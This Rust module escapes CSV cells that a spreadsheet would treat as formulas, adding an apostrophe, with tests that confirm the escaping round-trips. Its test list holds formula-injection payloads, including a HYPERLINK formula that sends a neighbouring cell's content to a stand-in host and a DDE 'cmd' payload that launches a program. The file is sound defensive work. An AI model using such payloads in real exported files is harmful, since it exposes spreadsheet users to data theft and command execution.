//! Rows of the tables that leave the desk as CSV. A spreadsheet takes a cell that begins with one of a few characters
//! for a formula, and a formula can send what is beside it elsewhere (T25).
//!
//! So such a cell gets an apostrophe, which is how people mark text in spreadsheets: `+44 116 …` stays readable. Whoever
//! reads the row again takes it away: [`words`] gives what went into [`row`]. Excel shows the apostrophe, and nothing
//! is computed.
//!
//! No table says by which character its cells are parted. One that is opened in a country where that is another one may
//! be cut within a cell, so a table that came here keeps its own.

use std::borrow::Cow;

use csv::{QuoteStyle, WriterBuilder};

const MARK: char = '\'';

/// A row with its line's end, its cells defused.
pub fn row<'c>(cells: impl IntoIterator<Item = &'c str>, delimiter: u8) -> String {
    let quoted = QuoteStyle::Necessary;
    let mut writer = WriterBuilder::new().delimiter(delimiter).quote_style(quoted).from_writer(Vec::new());
    let cells = cells.into_iter().map(defused);
    // Writing to memory fails nowhere.
    let written = writer.write_record(cells.map(Cow::into_owned));
    let bytes = written.ok().and_then(|()| writer.into_inner().ok()).unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

/// Whether a spreadsheet would compute something, or an apostrophe of the words' own would be taken away.
pub fn needs_a_mark(words: &str) -> bool {
    words.trim_start_matches(MARK).starts_with(begins_a_formula)
}

/// The words of a cell: without the apostrophe that only says that they are words.
pub fn words(cell: &str) -> &str {
    cell.strip_prefix(MARK).filter(|words| needs_a_mark(words)).unwrap_or(cell)
}

fn defused(words: &str) -> Cow<'_, str> {
    if needs_a_mark(words) { format!("{MARK}{words}").into() } else { words.into() }
}

/// The wide forms are those of East Asian keyboards, which some spreadsheets take for the others.
fn begins_a_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{needs_a_mark, row, words};

    /// What spreadsheets are attacked with.
    const FORMULAS: [&str; 10] = [
        "=1+2",
        "+1+2",
        "-1+2",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "\n=1+2",
        "\0=1+2",
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"more\")",
        "=cmd|' /C calc'!A0",
    ];

    fn read(text: &str) -> Vec<String> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        record.iter().map(str::to_owned).collect()
    }

    #[test]
    fn no_cell_begins_as_a_formula_does() {
        for formula in FORMULAS {
            let cells = read(&row(["Zoë Marsh", formula], b','));
            assert_eq!(cells[0], "Zoë Marsh");
            assert_eq!(cells[1], format!("'{formula}"));
            assert_eq!(words(&cells[1]), formula);
        }
    }

    #[test]
    fn a_number_that_is_dialled_stays_readable() {
        assert_eq!(row(["+44 116 496 0001", "0116 496 0001"], b';'), "'+44 116 496 0001;0116 496 0001\n");
    }

    #[test]
    fn an_apostrophe_that_belongs_to_a_word_stays() {
        for cell in ["'Allo", "O'Brien", "'", "", "'s-Gravenhage", "a-b"] {
            assert_eq!((words(cell), needs_a_mark(cell)), (cell, false), "{cell}");
        }
    }

    proptest! {
        #[test]
        fn what_is_read_is_what_was_written(cells in prop::collection::vec("['=+@\t\r\n\",;a-]{0,6}|\\PC*", 1..5)) {
            let written = row(cells.iter().map(String::as_str), b',');
            let read = read(&written);
            prop_assert!(!read.iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])));
            let read: Vec<&str> = read.iter().map(|cell| words(cell)).collect();
            prop_assert_eq!(read, cells);
        }
    }
}
